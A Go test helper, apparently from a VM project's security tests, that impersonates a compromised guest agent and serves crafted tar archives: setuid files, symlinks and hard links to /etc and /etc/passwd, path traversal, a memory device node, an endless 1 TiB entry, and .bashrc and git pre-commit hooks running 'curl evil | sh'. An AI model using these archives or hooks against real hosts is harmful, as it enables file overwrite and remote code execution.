package main

import (
	"archive/tar"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path"
	"time"

	"github.com/hashicorp/yamux"

	"banger/internal/agent"
	"banger/internal/guestcontract"
)

// hostileAgent replaces banger-agent in a guest: it stops the real one,
// takes the virtio-serial port and answers the host the way an agent
// rewritten by root in the guest could. Health says version "hostile" so
// the test knows it is in place; every download is a crafted tar chosen by
// the requested name:
//
//	*/loot    odd but nameable entries: set-id file, symlinks out of the
//	          tree, a fifo, a device, one plain file
//	*/escape  a hard link to a host path, entries beside and above the
//	          requested one (.bashrc, .git/hooks/pre-commit, ../evil, an
//	          absolute path)
//	*/huge    one file whose header claims 1 TiB, streamed without end
func hostileAgent() error {
	if out, err := exec.Command("systemctl", "stop", "banger-agent.service").CombinedOutput(); err != nil {
		return fmt.Errorf("stop the real agent: %v: %s", err, out)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET "+agent.PathHealth, func(w http.ResponseWriter, _ *http.Request) {
		json.NewEncoder(w).Encode(agent.Health{Version: "hostile", Init: "systemd", MultiUser: true, IdentityApplied: true})
	})
	mux.HandleFunc("GET "+agent.PathFiles, func(w http.ResponseWriter, r *http.Request) {
		p := r.URL.Query().Get("path")
		w.Header().Set("Content-Type", "application/x-tar")
		tw := tar.NewWriter(w)
		defer tw.Close()
		name := path.Base(p)
		switch name {
		case "loot":
			writeLoot(tw, name)
		case "escape":
			writeEscape(tw, name)
		case "huge":
			writeHuge(tw, name)
		}
	})
	srv := &http.Server{Handler: mux}
	dev := guestcontract.VirtioPortsDir + "/" + guestcontract.AgentSerialPort
	for {
		port, err := os.OpenFile(dev, os.O_RDWR, 0)
		if err != nil {
			return err
		}
		sess, err := yamux.Server(port, nil)
		if err != nil {
			port.Close()
			return err
		}
		srv.Serve(sess)
		port.Close()
		time.Sleep(200 * time.Millisecond) // reopen after the host side went away
	}
}

func file(tw *tar.Writer, name string, mode int64, body string) {
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: mode, Size: int64(len(body)), Uid: 0, Gid: 0})
	io.WriteString(tw, body)
}

func writeLoot(tw *tar.Writer, root string) {
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeDir, Name: root + "/", Mode: 0o755})
	file(tw, root+"/ok.txt", 0o644, "fine\n")
	file(tw, root+"/suid", 0o4755|0o2000|0o1000, "#!/bin/sh\n")
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeSymlink, Name: root + "/etc", Linkname: "/etc"})
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeSymlink, Name: root + "/up", Linkname: "../../.."})
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeFifo, Name: root + "/fifo", Mode: 0o644})
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeChar, Name: root + "/mem", Mode: 0o666, Devmajor: 1, Devminor: 1})
}

func writeEscape(tw *tar.Writer, root string) {
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeDir, Name: root + "/", Mode: 0o755})
	file(tw, root+"/ok.txt", 0o644, "fine\n")
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeLink, Name: root + "/passwd", Linkname: "/etc/passwd"})
	file(tw, ".bashrc", 0o644, "curl evil | sh\n")
	file(tw, ".git/hooks/pre-commit", 0o755, "#!/bin/sh\ncurl evil | sh\n")
	file(tw, root+"/../evil", 0o644, "evil\n")
	file(tw, "/tmp/banger-hostile-abs", 0o644, "evil\n")
}

func writeHuge(tw *tar.Writer, root string) {
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeDir, Name: root + "/", Mode: 0o755})
	tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: root + "/big", Mode: 0o644, Size: 1 << 40})
	zero := make([]byte, 64<<10)
	for {
		if _, err := tw.Write(zero); err != nil {
			return
		}
	}
}
